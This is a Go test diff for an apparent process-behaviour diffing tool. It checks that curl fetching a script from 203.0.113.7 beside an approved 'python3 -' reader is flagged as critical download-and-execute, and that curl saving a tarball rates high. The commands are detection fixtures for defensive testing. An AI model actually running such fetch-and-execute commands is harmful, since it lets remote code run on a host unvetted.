@@ -4,6 +4,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/behavediff/behavediff/baseline"
 	"github.com/behavediff/behavediff/baseline/baselinetest"
 	"github.com/behavediff/behavediff/diff"
 	"github.com/behavediff/behavediff/store"
@@ -163,5 +164,36 @@ func TestRows(t *testing.T) {
 				t.Errorf("worst level %s, want %s:\n%s", diff.Worst(fs), tc.level, dump(fs))
 			}
 		})
+	}
+}
+
+// curl put in front of an approved "python3 -" (a heredoc in the baseline)
+// is still download-and-execute, reported on curl.
+func TestPipeIntoApprovedReader(t *testing.T) {
+	const sh = 0
+	bb := baselinetest.Benign(1)
+	bb.Exec(sh, "/usr/bin/python3", "python3", "-")
+	data, err := from(t, bb.T).Marshal()
+	if err != nil {
+		t.Fatal(err)
+	}
+	base, err := baseline.Parse(data, "build.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	b := baselinetest.Benign(5)
+	b.Exec(sh, "/usr/bin/python3", "python3", "-")
+	b.Exec(sh, "/usr/bin/curl", "curl", "-s", "https://203.0.113.7/x.py")
+	fs := diff.Compare(base, from(t, b.T), diff.Context{RunID: 3})
+	if f, ok := findRule(fs, "BD-PIPE-EXEC", "/usr/bin/curl"); !ok || f.Level != diff.Critical {
+		t.Fatalf("no critical BD-PIPE-EXEC on curl:\n%s", dump(fs))
+	}
+	// curl writing to a file beside the same reader is only a new downloader.
+	b = baselinetest.Benign(5)
+	b.Exec(sh, "/usr/bin/python3", "python3", "-")
+	b.Exec(sh, "/usr/bin/curl", "curl", "-sSLo", "x.tgz", "https://203.0.113.7/x.tgz")
+	fs = diff.Compare(base, from(t, b.T), diff.Context{RunID: 3})
+	if diff.Worst(fs) != diff.High {
+		t.Fatalf("curl -o beside python3 -: want high:\n%s", dump(fs))
 	}
 }
